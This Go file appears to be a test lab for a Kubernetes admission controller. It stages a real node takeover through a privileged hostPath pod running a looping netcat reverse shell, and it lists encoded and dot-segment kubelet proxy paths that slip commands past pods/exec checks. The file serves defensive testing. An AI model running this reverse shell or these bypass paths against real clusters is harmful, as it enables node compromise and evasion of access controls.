package lab

import (
	"bufio"
	"cmp"
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/vnfguard/vnfguard/internal/finding"
)

// HostTakeover is the Peirates "hostpath mount" attack for real, on the real node: a privileged pod with the host's
// root file system at /host whose busybox nc opens a reverse shell to a listener on the host's pod-bridge address
// (retried every second, so the listener may come later). The proof that it works: through the shell, the pod reads
// a canary file planted in the lab's work directory — the host's file, read through the mount.
type HostTakeover struct {
	node       *Node
	ln         net.Listener
	canaryFile string
	canary     string
}

// PrepareHostTakeover plants the canary under dir (the lab's work directory: the lab writes nowhere else) and
// listens for the reverse shell on the gateway. Close stops listening.
func (n *Node) PrepareHostTakeover(dir string) (*HostTakeover, error) {
	if n == nil || n.Gateway == nil {
		return nil, errors.New("lab: the host-takeover attack needs the real node (Options.RealNode)")
	}
	b := make([]byte, 8)
	_, _ = rand.Read(b)
	h := &HostTakeover{node: n, canary: "canary-" + hex.EncodeToString(b)}
	canaryDir, err := os.MkdirTemp(dir, "canary-")
	if err != nil {
		return nil, fmt.Errorf("lab: canary directory: %w", err)
	}
	h.canaryFile = filepath.Join(canaryDir, "canary")
	if err := os.WriteFile(h.canaryFile, []byte(h.canary+"\n"), 0o600); err != nil {
		return nil, fmt.Errorf("lab: plant the canary: %w", err)
	}
	if h.ln, err = net.Listen("tcp", net.JoinHostPort(n.Gateway.String(), "0")); err != nil {
		return nil, fmt.Errorf("lab: listen for the reverse shell on the host's pod-network address %s: %w", n.Gateway, err)
	}
	return h, nil
}

// Close stops listening for the reverse shell.
func (h *HostTakeover) Close() { _ = h.ln.Close() }

// Listener is where the reverse shell connects (HOST:PORT on the pod bridge).
func (h *HostTakeover) Listener() string { return h.ln.Addr().String() }

// Pod is the attacker's pod, in namespace, on the real node.
func (h *HostTakeover) Pod(namespace, name string) *corev1.Pod {
	addr := h.ln.Addr().(*net.TCPAddr)
	shell := "while true; do nc " + addr.IP.String() + " " + strconv.Itoa(addr.Port) + " -e /bin/sh; sleep 1; done"
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: namespace, Labels: map[string]string{"app": "peirates"}},
		Spec: corev1.PodSpec{
			NodeName:                      h.node.Name,
			AutomountServiceAccountToken:  ptrTo(false),
			TerminationGracePeriodSeconds: ptrTo[int64](1),
			Containers: []corev1.Container{{
				Name: "attack", Image: h.node.Images.VNF, ImagePullPolicy: corev1.PullIfNotPresent,
				Command:         []string{"/bin/sh", "-c", shell},
				SecurityContext: &corev1.SecurityContext{Privileged: ptrTo(true)},
				VolumeMounts:    []corev1.VolumeMount{{Name: "host-root", MountPath: "/host"}},
			}},
			Volumes: []corev1.Volume{{Name: "host-root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
		},
	}
}

// ReadCanary waits (within timeout) for the reverse shell, has it print the canary file through /host and returns
// what it printed; an error unless that holds the canary.
func (h *HostTakeover) ReadCanary(timeout time.Duration) (string, error) {
	_ = h.ln.(*net.TCPListener).SetDeadline(time.Now().Add(timeout))
	conn, err := h.ln.Accept()
	if err != nil {
		return "", fmt.Errorf("no reverse shell reached %s: %w", h.Listener(), err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := conn.Write([]byte("cat /host" + h.canaryFile + "; exit\n")); err != nil {
		return "", fmt.Errorf("send to the reverse shell: %w", err)
	}
	var out strings.Builder
	sc := bufio.NewScanner(conn)
	for sc.Scan() {
		out.WriteString(sc.Text() + "\n")
	}
	got := strings.TrimSpace(out.String())
	if !strings.Contains(got, h.canary) {
		return got, fmt.Errorf("the reverse shell printed %q, not the canary %s of the host's %s", got, h.canary, h.canaryFile)
	}
	return got, nil
}

// HostTakeoverControl is the control run, without vnfguard: the attacker's pod starts on the real node, its
// reverse shell reaches the host and reads the canary through the hostPath mount. It shows the attack is real.
func HostTakeoverControl(h *HostTakeover) Scenario {
	return Scenario{
		Name: "host-takeover-control",
		// Also, while no vnfguard judges it, the pod RealNodeScenario's break-glass exec goes into: a running
		// container in a protected namespace, of no VNF package (vnfguard would refuse its image).
		Setup: func(ctx context.Context, env *Env) error {
			for _, ns := range []string{Sandbox, RealNodeNamespace} {
				labels := map[string]string(nil)
				if ns == RealNodeNamespace {
					labels = protectedLabels
				}
				if err := env.CP.EnsureNamespace(ctx, ns, labels); err != nil {
					return err
				}
			}
			admin, _ := env.CP.ClientFor(Admin)
			pod := &corev1.Pod{
				ObjectMeta: metav1.ObjectMeta{Name: breakGlassTarget, Namespace: RealNodeNamespace},
				Spec: corev1.PodSpec{
					NodeName: h.node.Name, AutomountServiceAccountToken: ptrTo(false), TerminationGracePeriodSeconds: ptrTo[int64](1),
					Containers: []corev1.Container{{Name: "app", Image: h.node.Images.VNF, Command: []string{"/bin/sleep", "3600"}}},
				},
			}
			if _, err := admin.CoreV1().Pods(RealNodeNamespace).Create(ctx, pod, metav1.CreateOptions{}); err != nil {
				return fmt.Errorf("create the break-glass target %s/%s: %w", RealNodeNamespace, breakGlassTarget, err)
			}
			return nil
		},
		Steps: []Step{{
			Name: "Peirates pod, vnfguard not registered", Identity: Attacker, Expect: Allowed, Technique: finding.MaliciousVNFInstantiation, ShowDetail: true,
			Request: "create Pod " + Sandbox + "/peirates-control on the real node (privileged, hostPath / at /host, nc reverse shell)",
			Action: func(ctx context.Context, env *Env) (string, error) {
				cs, _ := env.CP.ClientFor(Attacker)
				admin, _ := env.CP.ClientFor(Admin)
				start := time.Now()
				if _, err := cs.CoreV1().Pods(Sandbox).Create(ctx, h.Pod(Sandbox, "peirates-control"), metav1.CreateOptions{}); err != nil {
					return "", err
				}
				defer func() {
					_ = admin.CoreV1().Pods(Sandbox).Delete(context.WithoutCancel(ctx), "peirates-control", metav1.DeleteOptions{})
				}()
				if err := WaitPodRunning(ctx, admin, Sandbox, "peirates-control", time.Minute); err != nil {
					return "", err
				}
				running := time.Since(start)
				got, err := h.ReadCanary(time.Minute)
				if err != nil {
					return "", err
				}
				return fmt.Sprintf("Running after %.1f s; its reverse shell reached %s and read the host's canary: %s", running.Seconds(), h.Listener(), got), nil
			},
		}, kubeletRunStep(Allowed)},
	}
}

// RealNodeScenario runs with vnfguard, after HostTakeoverControl: the same attacker's pod is denied, so is the
// command the control run ran through the kubelet's proxy, and the on-call engineer's break-glass exec into the running pod the control run made goes through the API server and the kubelet
// and prints the command's output.
func RealNodeScenario(h *HostTakeover) Scenario {
	const target = breakGlassTarget
	return Scenario{
		Name: "real-node",
		Setup: func(ctx context.Context, env *Env) error {
			admin, _ := env.CP.ClientFor(Admin)
			return WaitPodRunning(ctx, admin, RealNodeNamespace, breakGlassTarget, time.Minute)
		},
		Steps: []Step{
			{Name: "Peirates pod on the real node", Identity: Attacker, Expect: Denied, ExpectCheck: "host-takeover", Technique: finding.MaliciousVNFInstantiation,
				Request: "create Pod " + Sandbox + "/peirates-real (the control run's pod)",
				Action: func(ctx context.Context, env *Env) (string, error) {
					cs, _ := env.CP.ClientFor(Attacker)
					_, err := cs.CoreV1().Pods(Sandbox).Create(ctx, h.Pod(Sandbox, "peirates-real"), metav1.CreateOptions{})
					return "", err
				}},
			kubeletRunStep(Denied),
			{Name: "break-glass exec, real container", Identity: BreakGlass, Expect: Allowed, BreakGlass: true, Technique: finding.AccessingTerminatedVNF, ShowDetail: true,
				Request: "exec (POST) `echo break-glass-ok $(hostname)` in " + RealNodeNamespace + "/" + target + " on the real node",
				Action: func(ctx context.Context, env *Env) (string, error) {
					_, cfg := env.CP.ClientFor(BreakGlass)
					stdout, stderr, err := ExecOutput(ctx, cfg, RealNodeNamespace, target, "", []string{"/bin/sh", "-c", "echo break-glass-ok $(hostname)"})
					if err != nil {
						return "", fmt.Errorf("%w (stderr %q)", err, stderr)
					}
					if want := "break-glass-ok " + target; strings.TrimSpace(stdout) != want {
						return "", fmt.Errorf("the exec printed %q, want %q", stdout, want)
					}
					return "printed " + strings.TrimSpace(stdout), nil
				}},
		},
	}
}

// kubeletRunStep runs `echo kubelet-run-ok` in RealNodeNamespace/breakGlassTarget through the API server's proxy to
// the real node's kubelet (nodes/proxy run/NS/POD/CONTAINER), once for each way of writing the path
// (KubeletRunPaths), as an identity that holds nodes/proxy: no pods/exec request is made, so nothing that judges
// pods/exec sees it. Allowed, every way must bring the command's output back (the attack is real, each way of
// writing it too); denied, every way must be refused by check kubelet-session, and the first refusal is the step's.
// Any other outcome, or a mix, is an error.
func kubeletRunStep(expect Verdict) Step {
	st := Step{Name: "run through the kubelet's proxy", Identity: OpsAdmin, Expect: expect, Technique: finding.AccessingTerminatedVNF, ShowDetail: true,
		Request: "nodes/proxy run/" + RealNodeNamespace + "/" + breakGlassTarget + "/app?cmd=echo kubelet-run-ok on the real node, the path written each way of KubeletRunPaths",
		Action: func(ctx context.Context, env *Env) (string, error) {
			admin, _ := env.CP.ClientFor(Admin)
			if err := WaitPodRunning(ctx, admin, RealNodeNamespace, breakGlassTarget, time.Minute); err != nil {
				return "", err
			}
			cs, _ := env.CP.ClientFor(OpsAdmin)
			var printed []string
			var refusal error
			for _, p := range KubeletRunPaths() {
				out, err := NodeProxy(ctx, cs, ExecPOST, RealNodeName, p, map[string]string{"cmd": "echo kubelet-run-ok"})
				switch {
				case err == nil && strings.TrimSpace(out) == "kubelet-run-ok":
					printed = append(printed, p)
				case IsWebhookDenial(err) && strings.Contains(err.Error(), "[kubelet-session "):
					refusal = cmp.Or(refusal, err)
				default:
					return "", fmt.Errorf("path %s: the kubelet answered %q, %v; want the command's output kubelet-run-ok or kubelet-session's denial", p, out, err)
				}
			}
			switch {
			case refusal != nil && len(printed) > 0:
				return "", fmt.Errorf("paths %v got through while others were refused (%v)", printed, refusal)
			case refusal != nil:
				return "", refusal
			}
			return fmt.Sprintf("printed kubelet-run-ok through the kubelet, the path written %d ways, no pods/exec request", len(printed)), nil
		}}
	if expect == Denied {
		st.ExpectCheck = "kubelet-session"
	}
	return st
}

// KubeletRunPaths are ways of writing the path of kubeletRunStep's command in a URL that the API server and the
// kubelet read as that same run (each measured on the lab's real node: the API server decodes the escapes and
// resolves the dot segments, the kubelet ignores empty ones): percent-encoded letters, slashes and dots, empty, "."
// and ".." segments. The kubelet reads its paths case-sensitively: "RUN/..." is a 404 there, and not listed.
func KubeletRunPaths() []string {
	ns, pod := RealNodeNamespace, breakGlassTarget
	return []string{
		"run/" + ns + "/" + pod + "/app",
		"%72un/" + ns + "/" + pod + "/app",
		"run//" + ns + "//" + pod + "/app",
		"./run/" + ns + "/" + pod + "/app",
		"metrics/../run/" + ns + "/" + pod + "/app",
		"run%2F" + ns + "%2F" + pod + "%2Fapp",
		"%2e/run/" + ns + "/" + pod + "/app",
		"metrics/%2e%2e/run/" + ns + "/" + pod + "/app",
	}
}

// RealNodeNamespace is the protected namespace of RealNodeScenario's break-glass target (a pod of no VNF instance).
const RealNodeNamespace = "vnf-node"

const breakGlassTarget = "debug-target"
